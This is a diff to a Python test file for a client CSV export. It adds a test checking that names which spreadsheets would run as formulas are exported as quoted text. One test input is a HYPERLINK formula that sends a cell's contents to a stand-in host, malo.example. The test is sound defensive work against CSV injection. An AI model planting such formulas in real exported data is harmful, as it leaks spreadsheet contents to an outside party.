@@ -1,5 +1,6 @@
 """Exportar CSV on the list: exactly the current query, all pages, as export_clients writes it."""
 
+import csv
 import io
 
 import pytest
@@ -30,12 +31,25 @@ def test_export_has_every_matching_client_across_pages_in_the_command_format(man
     for code in range(1, 61):
         ClientFactory(code=code, name=f"Claro {code}", status="inactive" if code % 3 else "active")
     ClientFactory(code=99, name="Movistar", status="inactive")
-    csv = downloaded(manager_client.get(EXPORT_URL, {"name": "CLARO", "status": "inactive"}))
-    lines = csv.splitlines()
+    text = downloaded(manager_client.get(EXPORT_URL, {"name": "CLARO", "status": "inactive"}))
+    lines = text.splitlines()
     assert len(lines) == 1 + 40  # header + the 40 inactive Claro clients, not just a page
     expected = io.StringIO()
     call_command("export_clients", "--status", "inactive", stdout=expected)
     assert [line for line in expected.getvalue().splitlines() if "Movistar" not in line] == lines
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_are_downloaded_as_text(manager_client):
+    names = ['=HYPERLINK("http://malo.example/?"&A1;"Ver")', "+57 Móvil", "@Arroba", "'Normal"]
+    for code, name in enumerate(names, start=1):
+        ClientFactory(code=code, name=name)
+    rows = csv.reader(io.StringIO(downloaded(manager_client.get(EXPORT_URL))))
+    assert [name for _code, name, *_ in rows][1:] == [
+        '\'=HYPERLINK("http://malo.example/?"&A1;"Ver")',
+        "'+57 Móvil",
+        "'@Arroba",
+        "'Normal",  # Not a formula: as it is.
+    ]
 
 
 def test_an_invalid_query_exports_nothing_but_the_header(manager_client):
